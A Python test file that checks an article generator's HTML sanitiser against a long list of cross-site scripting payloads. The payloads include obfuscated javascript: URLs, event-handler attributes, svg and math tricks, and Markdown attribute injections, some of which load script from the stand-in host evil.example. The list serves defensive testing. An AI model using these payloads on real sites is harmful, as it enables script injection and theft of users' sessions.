"""No article can run script: payloads of every class, judged by another parser than our own.

The judge is lxml's HTML parser. It asks of the finished HTML what a browser would: which elements
and attributes there are, and where addresses lead once they are decoded.
"""

import re
from collections.abc import Iterator

import pytest
from lxml import html as lxml_html

from generator.fields import Notes
from generator.reading import markup, sanitising
from generator.reading.markup import read_markup
from tests.reading.texts import article, html_of

CODE = "alert(1)"
SCRIPT = f"javascript:{CODE}"

# What a browser takes for "javascript:" once it has decoded and trimmed.
SPELLINGS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
    "java\tscript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#1;javascript:alert(1)",
    "&#14;javascript:alert(1)", "java&#13;script:alert(1)", "javascript\\:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "livescript:alert(1)", "mocha:alert(1)",
    "blob:https://example.com/x", "file:///etc/passwd", "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "x-javascript:alert(1)",
    "&amp;#106;avascript:alert(1)", "\u2028javascript:alert(1)", "\u00a0javascript:alert(1)",
)  # fmt: skip
SHAPES = ("[a]({})", "[a](<{}>)", '[a]({} "t")', "[a][r]\n\n[r]: {}", "<{}>", "![a]({})",
          '<a href="{}">a</a>')  # fmt: skip

ELEMENTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)",
    "<scr<script>ipt>alert(1)</script>", "<<script>alert(1)//<</script>", "<script\n>alert(1)",
    "<script>alert(1)", "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href=data:,x>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<base href=//evil.example/>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<applet code=x></applet>", "<frameset onload=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><set attributeName=href to=x>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><use href=data:,x#y /></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)>a</math>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>a</button></form>", "<isindex type=image src=1>",
    "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>a</button>",
    "<textarea><script>alert(1)</script></textarea>", "<select onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)", "<title><img src=x onerror=alert(1)></title>",
    "<marquee onstart=alert(1)>a</marquee>", "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example></layer>", "<xml id=x><a></a></xml>", "<portal src=//evil.example>",
    "<dialog open onclose=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<x-custom onclick=alert(1)>a</x-custom>", "<a:b onclick=alert(1)>a</a:b>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<?php alert(1) ?>", "<![CDATA[<script>]]>",
    "<!--><script>alert(1)</script>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->", "</p><script>alert(1)</script>",
    "<div markdown=1><script>alert(1)</script></div>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
)  # fmt: skip
ATTRIBUTES = (
    "<img src=x onerror=alert(1)>", "<img src=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>", "<img src='x'onerror=alert(1)>", "<img src=`x`onerror=a>",
    "<img src=x:x onerror=alert(1)//", "<p onclick='alert(1)'>a</p>", "<p on\x0cclick=alert(1)>a",
    "<b onmouseover=alert(1)>a</b>", "<details open ontoggle=alert(1)>a</details>",
    "<a href=x onfocus=alert(1) autofocus>a</a>", "<a href=x target=_blank rel=opener>a</a>",
    "<a href=x ping=//evil.example>a</a>", "<a href=x download>a</a>", "<td background=x>a</td>",
    "<p style='background:url(javascript:alert(1))'>a</p>", "<p style=position:fixed>a</p>",
    "<p style='width:expression(alert(1))'>a</p>", "<img srcset='javascript:alert(1) 1x'>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<img lowsrc=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>a</blockquote>", "<q cite='javascript:alert(1)'>a</q>",
    "<ins cite=javascript:alert(1)>a</ins>", "<time datetime=x onclick=alert(1)>a</time>",
    "<p title='\"><script>alert(1)</script>'>a</p>", "<p title=\"'><img src=x onerror=alert(1)>\">",
    "<p id='\"><script>alert(1)</script>'>a</p>", "<p class='x\" onclick=\"alert(1)'>a</p>",
    "<img src=x alt='\" onerror=alert(1) \"'>", "<a href='x\" onclick=\"alert(1)'>a</a>",
    "<form name=getElementById><input name=body></form>", "<img name=cookie src=x>",
    "<a name=createElement href=x>a</a>", "<p contenteditable>a</p>", "<p slot=x is=y>a</p>",
    "<p data-bind='x' @click='alert(1)' v-on:click='alert(1)' x-on:click='alert(1)'>a</p>",
    "<p xmlns:x=y xlink:href=javascript:alert(1)>a</p>", "<p itemscope itemid=javascript:x>a</p>",
)  # fmt: skip
MARKDOWN = (
    "a\n{: onclick=alert(1) }", "*a*{: onclick=alert(1) }", "## a {: onclick='alert(1)' }",
    "[a](b.md){: href=javascript:alert(1) }", "[a](b.md){: target=_blank style=x }",
    "![a](b.jpg){: onerror=alert(1) }", "![a](b.jpg){: src=javascript:alert(1) }",
    "![a](b.jpg 't'){: onerror=alert(1) }", "- a\n{: style=position:fixed }",
    "a | b\n-|-\nc {: onclick=alert(1) } | d", '## a {: #"><script>alert(1)</script> }',
    "## a {: data-toc-label='<script>alert(1)</script>' }\n\n[TOC]",
    '```x"><script>alert(1)</script>\na\n```', "```x onclick=alert(1)\na\n```",
    "``` { .x onclick=alert(1) }\na\n```", "``` { #x style=position:fixed }\na\n```",
    '~~~ {."><script>alert(1)</script>}\na\n~~~', ("a[^<script>alert(1)</script>]\n\n"
    "[^<script>alert(1)</script>]: b"), "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "a[^1]\n\n[^1]: [b](javascript:alert(1))", 'a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: b',
    '*[UN]: "><script>alert(1)</script>\n\nUN', '*[UN]: x" onclick="alert(1)\n\nUN',
    '[a](b.md "x\\" onclick=\\"alert(1)")', "[a](b.md '\"><script>alert(1)</script>')",
    '![a](b.jpg "<script>alert(1)</script>")', '![" onerror="alert(1)](b.jpg)',
    '![<script>alert(1)</script>](b.jpg "t")', "## <script>alert(1)</script>\n\n[TOC]",
    "## <img src=x onerror=alert(1)>", "/// pull-quote | <script>alert(1)</script>\na\n///",
    '/// key-points | "><img src=x onerror=alert(1)>\na\n///',
    "/// questions\n### <script>alert(1)</script>\n\na\n///", ("/// key-points\n    attrs: "
    "{onclick: alert(1)}\n\na\n///"), "<b\n\nonclick=alert(1)>a</b>", "`<script>`{: onclick=a }",
    "\\<script>alert(1)\\</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="javas\ncript:alert(1)">a</a>', "a\x02klzzwxh:0000\x03b", "\x02106\x03avascript:x",
    "[a]: javascript:alert(1)\n\n[a]", "[a]:javascript:alert(1)\n[a][]", "term\n:   <script>a",
    "<div>\n\n[a](javascript:alert(1))\n\n</div>", "<p>[a](javascript:alert(1))</p>",
    "[<img src=x onerror=alert(1)>](b.md)", '[a](b.md#"><script>alert(1)</script>)',
)  # fmt: skip
PAYLOADS = (
    *(shape.format(spelling) for spelling in SPELLINGS for shape in SHAPES),
    *ELEMENTS,
    *ATTRIBUTES,
    *MARKDOWN,
)

ALLOWED_ADDRESS = re.compile(r"(?:https?:|mailto:|tel:|ref:\d|#|//)", re.IGNORECASE)
# A browser drops these within an address, and control characters and spaces before it.
DROPPED = re.compile(r"[\t\n\r]|^[\x00-\x20]+")
ADDRESSES = {
    "action",
    "background",
    "cite",
    "data",
    "formaction",
    "href",
    "poster",
    "src",
    "srcset",
}
HARMLESS = {"abbr", "alt", "aria-label", "class", "colspan", "datetime", "dir", "height", "id",
            "lang", "rel", "reversed", "role", "rowspan", "scope", "start", "tabindex",
            "title", "type", "value", "width"}  # fmt: skip


def dangers(html: str) -> Iterator[str]:
    """Whatever in a finished text could run, load or send something."""
    for element in lxml_html.fragment_fromstring(html, create_parent="main").iterdescendants():
        if not isinstance(element.tag, str):
            yield f"a comment or an instruction: {element}"
            continue
        if element.tag not in sanitising.TAGS:
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            if name in ADDRESSES:
                address = DROPPED.sub("", value)
                if name not in {"href", "src"} or not ALLOWED_ADDRESS.match(address):
                    yield f"{name}={value}"
            elif name not in HARMLESS:
                yield f"{name}={value}"


def finished(text: str) -> str:
    """The HTML of a text, whatever else is wrong with it."""
    found = read_markup(text, 1, Notes("text.md"))
    return found.html if found else ""


def test_the_payloads_are_many_and_each_is_there_once() -> None:
    assert len(SPELLINGS) * len(SHAPES) == 217
    assert len(ELEMENTS) + len(ATTRIBUTES) + len(MARKDOWN) >= 150
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize(
    ("html", "danger"),
    [
        ("<p>a</p><script>b</script>", "<script>"),
        ("<p onclick='a'>b</p>", "onclick=a"),
        ("<a href='java&#10;script:a'>b</a>", "href=java\nscript:a"),
        ("<a href=' javascript:a'>b</a>", "href= javascript:a"),
        ("<a href='data:a'>b</a>", "href=data:a"),
        ("<svg></svg>", "<svg>"),
        ("<p style='a'>b</p>", "style=a"),
        ("<p name='a'>b</p>", "name=a"),
        ("<q cite='a'>b</q>", "cite=a"),
    ],
)
def test_the_judge_knows_a_danger(html: str, danger: str) -> None:
    assert danger in list(dangers(html))


@pytest.mark.parametrize("text", [*ELEMENTS, *ATTRIBUTES, *MARKDOWN])
def test_a_payload_becomes_harmless(text: str) -> None:
    assert list(dangers(finished(text))) == []


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_spelling_of_a_dangerous_address_is_harmless_in_every_shape(spelling: str) -> None:
    for shape in SHAPES:
        text = shape.format(spelling)
        assert list(dangers(finished(text))) == [], text


def test_payloads_are_harmless_together() -> None:
    for start in range(7):
        html = finished("\n\n".join(PAYLOADS[start::7]))
        assert html
        assert list(dangers(html)) == []


def test_the_payloads_would_do_harm_without_the_sanitiser(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "sanitised", lambda html: html)
    harmful = [text for text in PAYLOADS if finished(text) and any(dangers(finished(text)))]
    assert len(harmful) > len(PAYLOADS) / 2


def test_what_a_newsroom_writes_stays() -> None:
    text = (
        '<figure class="x" id="y"><img src="a.jpg">'
        '<figcaption lang="es">c <cite>d</cite></figcaption></figure>'
    )
    assert html_of(text) == text.replace("a.jpg", "ref:0")
    assert html_of('<a href="mailto:a@b.org" rel="me">a</a>').count("mailto:a@b.org") == 1
    assert html_of("<details><summary>a</summary>b</details>") == (
        "<details><summary>a</summary>b</details>"
    )


def test_metadata_is_text_and_never_html() -> None:
    title = "<script>alert(1)</script> & {{ 7 * 7 }}"
    assert article(f"title: '{title}'").title == title
